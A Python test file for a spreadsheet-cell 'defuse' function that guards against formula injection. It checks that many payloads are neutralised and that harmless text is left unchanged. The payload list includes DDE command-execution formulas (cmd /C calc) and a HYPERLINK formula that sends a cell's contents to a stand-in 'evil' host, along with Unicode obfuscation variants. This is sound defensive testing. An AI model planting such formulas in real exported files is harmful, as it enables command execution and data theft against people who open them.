"""No cell runs, and every cell can be had back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.feedback.spreadsheet import defuse, is_dangerous

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?x="&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe66 small equals",
    "\u22121+A1",
    "\u3000\uff1d1+1",
    "'=1+1",
    "''=1+1",
    "-",
    "--1",
    "+-1",
    "-1e",
    "-0x10",
    "=",
    "-1\n",
]

HARMLESS = ["", "plain", "'quoted'", "a=b", "5", "-5", "+3.25", "1e-7", "-1.5E+10", "été", '{"a": 1}', "½", "'"]

formula_like = st.text(st.sampled_from(list("=+-@\t\r\n '\u200b\uff1d\uff20\ufeff1a.")), max_size=6)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_might_run_is_defused(payload: str) -> None:
    assert defuse(payload) == f"'{payload}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_cannot_run_stays(text: str) -> None:
    assert defuse(text) == text


@settings(deadline=None)
@given(st.one_of(st.text(), formula_like))
def test_no_cell_begins_like_a_formula_and_each_can_be_had_back(text: str) -> None:
    cell = defuse(text)
    begins = cell.lstrip()[:1]
    assert begins not in {"=", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"}
    assert begins not in {"+", "-"} or float(cell) is not None
    assert cell[:1] not in {"\t", "\r", "\n"}
    restored = cell[1:] if cell.startswith("'") and is_dangerous(cell) else cell
    assert restored == text


@settings(deadline=None)
@given(st.lists(st.one_of(st.text(st.characters(exclude_categories=["Cs"])), formula_like), min_size=1))
def test_a_line_of_cells_stays_a_line_of_cells(texts: list[str]) -> None:
    line = io.StringIO(newline="")
    csv.writer(line, quoting=csv.QUOTE_ALL).writerow(map(defuse, texts))
    assert list(csv.reader(io.StringIO(line.getvalue(), newline=""))) == [list(map(defuse, texts))]
